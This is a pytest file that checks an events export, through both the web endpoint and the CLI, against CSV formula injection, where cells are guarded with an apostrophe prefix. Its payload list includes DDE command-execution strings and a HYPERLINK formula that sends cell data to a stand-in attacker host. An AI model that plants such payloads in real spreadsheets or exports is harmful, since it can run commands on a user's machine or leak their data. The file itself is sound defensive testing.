"""CSV injection: no cell of an export begins as a formula, and nothing of it is lost or moved.

The remedy is OWASP's: an apostrophe ahead of what a spreadsheet would run. NDJSON is as it came.
"""

import csv
import io
import json
import subprocess
import sys

import pytest

from tests.support import ROOT
from tests.support.web.attack_target import AttackTarget, attack_event, with_query

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    '"=1+1',
    '",=1+1,"',
    '"\r\n=1+1,"',
    "a\r\n=1+1",
    "'=1+1",
    " =1+1",
    ";=1+1",
]
RUN = tuple("=+-@\t\r\n\0＝＋－＠")
COLUMNS = 10


def rows(text: str) -> list[list[str]]:
    """Cells as a spreadsheet finds them."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def exported(target: AttackTarget, **asked: str) -> list[list[str]]:
    response = target.call(with_query("/events/export", format="csv", **asked))
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="events.csv"'
    return rows(response.body.decode())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_and_none_is_lost(target, payload):
    told = target.send(
        attack_event(category=payload, name=payload, session_id=payload, data={"a": payload})
    )
    if told[0]["status"] == "rejected":  # words have no ends of lines in them
        assert any(ord(each) < 32 for each in payload)
        payload = payload.strip("\t\r\n")
        return
    head, *found = exported(target, category=payload)
    assert len(found) == 1 and len(head) == len(found[0]) == COLUMNS
    assert not [cell for cell in found[0] if cell.startswith(RUN)]
    cells = dict(zip(head, found[0], strict=True))
    for name in ("category", "name", "session_id"):
        guarded = "'" if payload.startswith(RUN) else ""
        assert cells[name] == guarded + payload
    assert json.loads(cells["data"]) == {"a": payload}


def test_the_same_holds_at_the_terminal(target):
    command = [sys.executable, "server.py", "events", "export", "--format", "csv"]
    done = subprocess.run(
        [*command, "--data", str(target.server.data)], cwd=ROOT, capture_output=True, check=True
    )
    found = rows(done.stdout.decode())
    assert len(found) > 5
    assert {len(row) for row in found} == {COLUMNS}
    assert not [cell for row in found for cell in row if cell.startswith(RUN)]


def test_without_the_guard_a_cell_is_what_was_sent(weakened):
    weakened.send(attack_event(category="=1+1"))
    found = exported(weakened, category="=1+1")
    assert found[1][0] and "=1+1" in found[1]
